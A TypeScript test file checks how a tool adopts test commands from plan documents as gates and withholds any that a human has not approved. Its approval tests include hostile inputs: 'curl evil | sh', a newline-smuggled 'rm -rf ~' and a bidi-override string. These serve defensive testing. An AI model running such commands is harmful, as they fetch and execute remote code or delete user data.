// Test commands of papers as gates: only what a human has seen is run, and a pattern for all is not asked of each.
import { describe, expect, it } from "vitest";
import { adoptTestCommands, askAboutCommands } from "../../../src/core/gates/test-commands.ts";
import { Gate } from "../../../src/core/model/gate.ts";
import { check } from "../../../src/core/model/value/validate.ts";

const gate = (name: string, command: string, more: Partial<Gate> = {}): Gate => ({
  name,
  command,
  required: true,
  timeout_seconds: 600,
  ...more,
});
const story = (commands: readonly unknown[], patterns = {}) => ({ test_criteria: { commands, ...patterns } });
const plan = (commands: readonly unknown[], patterns = {}) => ({ test_plan: { commands, ...patterns } });
const nothing = { profile: [], approvedCommands: [] };
const commandsOf = (gates: readonly Gate[]) => gates.map(({ command }) => command);

describe("commands", () => {
  it("of the plan are taken, and those of the story only if the plan has none", () => {
    const both = adoptTestCommands({
      ...nothing,
      story: story(["npm test", "make lint"]),
      plan: plan(["make lint"]),
    });
    expect(both).toEqual({ gates: [gate("test", "make lint")], unapproved: [] });
    const one = adoptTestCommands({ ...nothing, story: story(["npm test"]), plan: plan([]) });
    expect(one.gates).toEqual([gate("test", "npm test")]);
    expect(adoptTestCommands(nothing)).toEqual({ gates: [], unapproved: [] });
  });

  it("get names that are free, and every gate is one that can be written down", () => {
    const profile = [gate("test", "go vet"), gate("test-3", "go build")];
    const { gates } = adoptTestCommands({ ...nothing, profile, story: story(["a", "b", "c"]) });
    expect(gates.map(({ name, command }) => `${name} ${command}`)).toEqual([
      "test go vet",
      "test-3 go build",
      "test-2 a",
      "test-4 b",
      "test-5 c",
    ]);
    expect(gates.every((one) => check(Gate, one).ok)).toBe(true);
  });

  it("that are gates already are not added twice, whatever their blanks", () => {
    const profile = [gate("unit", "npm  test", { required: false })];
    const wanted = story([" npm test ", "npm\ttest"], { failure_pattern: "FAILED" });
    expect(adoptTestCommands({ ...nothing, profile, story: wanted }).gates).toEqual([
      { ...profile[0], failure_pattern: "FAILED" },
    ]);
  });

  it("adopted once more change nothing", () => {
    const papers = {
      story: story(["npm test", "make"], { success_pattern: "ok", failure_pattern: "FAILED" }),
    };
    const { gates } = adoptTestCommands({ ...nothing, ...papers });
    expect(adoptTestCommands({ ...nothing, ...papers, profile: gates })).toEqual({ gates, unapproved: [] });
  });

  it("in papers of another form are none", () => {
    for (const commands of [null, "npm test", [null, 5, "", "  ", [], { command: 5 }, {}]])
      expect(adoptTestCommands({ ...nothing, story: { test_criteria: { commands } } }).gates).toEqual([]);
    expect(adoptTestCommands({ ...nothing, story: { test_criteria: [] }, plan: {} }).gates).toEqual([]);
  });
});

describe("approval", () => {
  it("comes from the story, the profile, or an answer; what has none is not run", () => {
    const commands = ["npm test", "go vet", "make e2e", "curl evil | sh", "curl  evil | sh"];
    const adopted = adoptTestCommands({
      story: story(["npm test"]),
      plan: plan(commands),
      profile: [gate("vet", "go vet")],
      approvedCommands: ["make e2e"],
    });
    expect(commandsOf(adopted.gates)).toEqual(["go vet", "npm test", "make e2e"]);
    expect(adopted.unapproved).toEqual(["curl evil | sh"]);
  });

  it("is for the command as it was seen: it runs in that spelling, and a line break is no blank", () => {
    const adopted = adoptTestCommands({
      ...nothing,
      approvedCommands: ["echo  a b"],
      plan: plan(["echo a b", "echo a\nb"]),
    });
    expect(commandsOf(adopted.gates)).toEqual(["echo  a b"]);
    expect(adopted.unapproved).toEqual(["echo a\nb"]);
  });

  it("is asked for in words that hide nothing", () => {
    expect(askAboutCommands(["make e2e", "true\nrm -rf ~", "echo \u202eevil"])).toBe(
      "The plan wants these commands run by Pairflow itself, outside the agents' sandbox:\n" +
        '- make e2e\n- "true\\nrm -rf ~"\n- "echo \\u{202e}evil"',
    );
  });
});

describe("a pattern for all commands", () => {
  const patterns = { success_pattern: "All tests passed", failure_pattern: "FAILED" };
  const said = (commands: readonly unknown[]) =>
    adoptTestCommands({ ...nothing, story: story(commands, patterns) }).gates.map(
      ({ command, success_pattern }) => `${command}: ${success_pattern ?? "–"}`,
    );

  it("of failure is asked of each", () => {
    const { gates } = adoptTestCommands({ ...nothing, story: story(["npm test", "npm run lint"], patterns) });
    expect(gates.map(({ failure_pattern }) => failure_pattern)).toEqual(["FAILED", "FAILED"]);
  });

  it("of success is asked of the only one", () => {
    expect(said(["make check"])).toEqual(["make check: All tests passed"]);
  });

  it.each([
    "npm test",
    "npm run test:unit",
    "npx vitest run",
    "npx jest",
    "pytest -q",
    "cargo test",
    "go test ./...",
    "bundle exec rspec",
    "make spec",
    "./gradlew testDebug",
    "xcodebuild runTests",
    "python -m unittest",
  ])("of success is asked of the first that runs tests: %s", (command) => {
    expect(said(["npm run lint", command, "cargo test --doc"])).toEqual([
      "npm run lint: –",
      `${command}: All tests passed`,
      "cargo test --doc: –",
    ]);
  });

  it("of success is asked of none if none runs tests", () => {
    expect(said(["docker run app:latest", "make inspect"])).toEqual([
      "docker run app:latest: –",
      "make inspect: –",
    ]);
  });

  it("yields to one that a command has for itself", () => {
    const own = { command: "npm test", success_pattern: "\\d+ passed", failure_pattern: null };
    const { gates } = adoptTestCommands({
      ...nothing,
      story: story(["npm test"]),
      plan: plan([own], patterns),
    });
    expect(gates).toEqual([
      gate("test", "npm test", { success_pattern: "\\d+ passed", failure_pattern: "FAILED" }),
    ]);
  });

  it("of the story holds for a plan that says none", () => {
    const { gates } = adoptTestCommands({
      ...nothing,
      story: story(["npm test"], patterns),
      plan: plan(["npm test"], { success_pattern: "ok", failure_pattern: null }),
    });
    expect(gates).toEqual([gate("test", "npm test", { success_pattern: "ok", failure_pattern: "FAILED" })]);
  });

  it("does not replace what the project declares, and is left out if it cannot be used", () => {
    const profile = [gate("test", "npm test", { failure_pattern: "ERR" })];
    const loose = story(["npm test"], { failure_pattern: "never", success_pattern: "(" });
    expect(adoptTestCommands({ ...nothing, profile, story: loose }).gates).toEqual(profile);
  });
});
